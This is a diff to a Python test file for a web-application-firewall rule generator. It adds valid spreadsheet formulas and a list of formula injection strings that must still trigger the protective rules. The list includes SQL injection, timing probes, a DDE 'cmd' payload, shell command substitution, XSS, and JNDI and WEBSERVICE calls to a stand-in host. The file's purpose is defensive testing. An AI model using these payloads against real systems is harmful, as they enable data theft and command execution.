@@ -404,6 +404,22 @@ FORMULA_INJECTIONS = [  # each must fall back to every rule
     "1 into outfile '/tmp/x'", "${jndi:ldap://x.example/a}", "a\nunion select 1", "x=0x7e",
     "if(1==1) calc", "(a)(b)", "x y", "min(a, b) id",  # an operand after an operand: no formula (cmd.exe's IF)
 ]
+SHEET_FORMULAS = [  # an online sheet's cell edits, batch operations and array formulas, as its web client posts them
+    # corpus AE held-out part, opened in stop 35: online-sheet-formula (cell-formula-edit, batch-ops, array-formula)
+    "=SUM(B2:B31)", "=IF(C2>=0.95,\"达标\",\"未达标\")", "=VLOOKUP($A2,'汇总表'!$A:$F,3,FALSE)",
+    '=COUNTIFS(D:D,"已办结",E:E,">="&DATE(2027,3,1))', '=SUMIFS(F:F,B:B,"杭州市",C:C,"<>")', '=TEXT(D2,"yyyy-mm-dd")',
+    "=IFERROR(VLOOKUP(A2,'1月'!A:B,2,0),\"\")", "=ROUND(E2/F2*100,2)", '=B2&"（"&C2&"）"', "=AVERAGE($C$2:$C$12)",
+    '=SUMPRODUCT((B2:B31="是")*(C2:C31))', '=MAX(IF(B2:B40="督查室",D2:D40))', "='汇总表'!C5/'汇总表'!B5",
+    "=Sheet1!A1*10%", "=RANK.EQ(B2,$B$2:$B$31)", "=SUM(2:2)", '=IF(A2="","",TODAY()-A2)', '="他说""好"""',
+]
+SHEET_FORMULA_INJECTIONS = [  # each must fall back to every rule
+    "=1 union select password from users", "=1;drop table t", "=A1 -- x", "=A1 /* x */", "=SLEEP(5)", "=CHAR(65)",
+    '=WEBSERVICE("http://203.0.113.5/x")', '=HYPERLINK("javascript:alert(1)")', "=A1' or '1'='1",
+    "=\"a' or '1'='1\"", "=cmd|' /C calc'!A0", "=A1|id", "=$(id)", "=`id`", "=A1\nunion select 1", "=x%27",
+    "=<script>alert(1)</script>", "=version()", "=@@version", "=user()", "=A1 or 1=1", "=benchmark(1,1)",
+    '=DDE("cmd")', "={1,2}", "=A1#", "=${jndi:ldap://203.0.113.5/a}", "=A1 and sleep(5)", "='a;b'!A1",
+    "=ascii(substr(user(),1,1))>64", "=SUM(A1) id", "=A1\\x",
+]
 
 
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
@@ -411,7 +427,7 @@ TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "gr
           "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
           "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS),
           "patent-search": (PATENT, PATENT_INJECTIONS), "boolean-expression": (BOOLEAN, BOOLEAN_INJECTIONS),
-          "formula": (FORMULAS, FORMULA_INJECTIONS)}
+          "formula": (FORMULAS, FORMULA_INJECTIONS), "sheet-formula": (SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
@@ -434,7 +450,8 @@ def test_a_report_formula_field_leaves_the_sql_rules_and_933161_only() -> None:
     assert not any(t in last for t in ("attack-php", "attack-xss", "attack-rce", "ruleRemoveById=", "ruleRemoveByTag="))
 
 @pytest.mark.parametrize(("language", "extra"), [("boolean-expression", ()),
-                                                   ("formula", (932140, 932200, 933161))])
+                                                   ("formula", (932140, 932200, 933161)),
+                                                   ("sheet-formula", (933161,))])
 def test_boolean_and_formula_fields_leave_the_sql_rules_and_nothing_more(language: str, extra: tuple[int, ...]) -> None:
     ff = FilterField(("/rules/save",), ("ARGS:json.expr",), language, "x")
     lines = filter_fields.render(ff, 12101, "site/x")
@@ -443,7 +460,7 @@ def test_boolean_and_formula_fields_leave_the_sql_rules_and_nothing_more(languag
     assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:json.expr"] + [
         x for rid in extra for x in (f"ctl:ruleRemoveTargetById={rid};ARGS:json.expr",
                                      f"ctl:ruleRemoveTargetByTag=sitegroup/replaces/{rid};ARGS:json.expr")]
-    # '|' '&&' '!' are the shell's too: the command rules keep reading a boolean expression.
+    # '|' '&&' '!' are the shell's too: the command rules keep reading a boolean expression, and '&' a sheet formula.
     assert language == "formula" or "932" not in last
     assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))
 
